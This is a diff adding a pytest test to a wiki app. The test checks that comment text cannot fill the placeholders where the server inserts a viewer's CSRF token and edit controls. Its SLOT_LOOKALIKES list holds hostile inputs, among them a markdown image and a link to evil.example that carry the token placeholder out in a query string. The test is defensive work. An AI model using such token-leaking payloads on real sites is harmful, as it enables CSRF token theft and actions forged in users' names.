@@ -360,3 +360,30 @@ def test_one_kept_thread_shows_each_member_their_own_controls(app, make_page, ma
         db.session.commit()
     assert "Alice's point." in clients["mod"].get(f"/wiki/{slug}").get_data(as_text=True)
     assert "Alice's point." not in clients["bob"].get(f"/wiki/{slug}").get_data(as_text=True)
+
+
+SLOT_LOOKALIKES = [
+    "<!--csrf-token-input-->",
+    "<!--viewer-actions:1:2-->",
+    "![t](https://evil.example/x.png?t=<!--csrf-token-input-->)",
+    "[link](https://evil.example/?a=<!--viewer-actions:1:2-->)",
+    "`<!--csrf-token-input-->`",
+    "<img src=x alt='<!--csrf-token-input-->'>",
+    "csrf-token-slot and 987654321987654321",
+]
+
+
+def test_user_text_cannot_fill_a_viewers_slots(app, make_page, make_user):
+    """Slots for a member's CSRF token and controls are HTML comments that no comment text can produce."""
+    slug = make_page("IT manager")
+    for name in ("mallory", "alice"):
+        make_user(name)
+    mallory, alice = as_user(app, "mallory"), as_user(app, "alice")
+    for text in SLOT_LOOKALIKES:
+        posted_id(comment(mallory, slug, text))
+    html = alice.get(f"/wiki/{slug}").get_data(as_text=True)
+    token = csrf_from(html)
+    inputs = re.findall(r'<input type="hidden" name="csrf_token" value="([^"]+)">', html)
+    assert html.count(token) == len(inputs) >= len(SLOT_LOOKALIKES)  # only ever in its own hidden inputs
+    assert "<!--csrf-token-input-->" not in html and "<!--viewer-actions" not in html
+    assert "/comments/1/edit" not in html  # no controls conjured for a comment named in the text
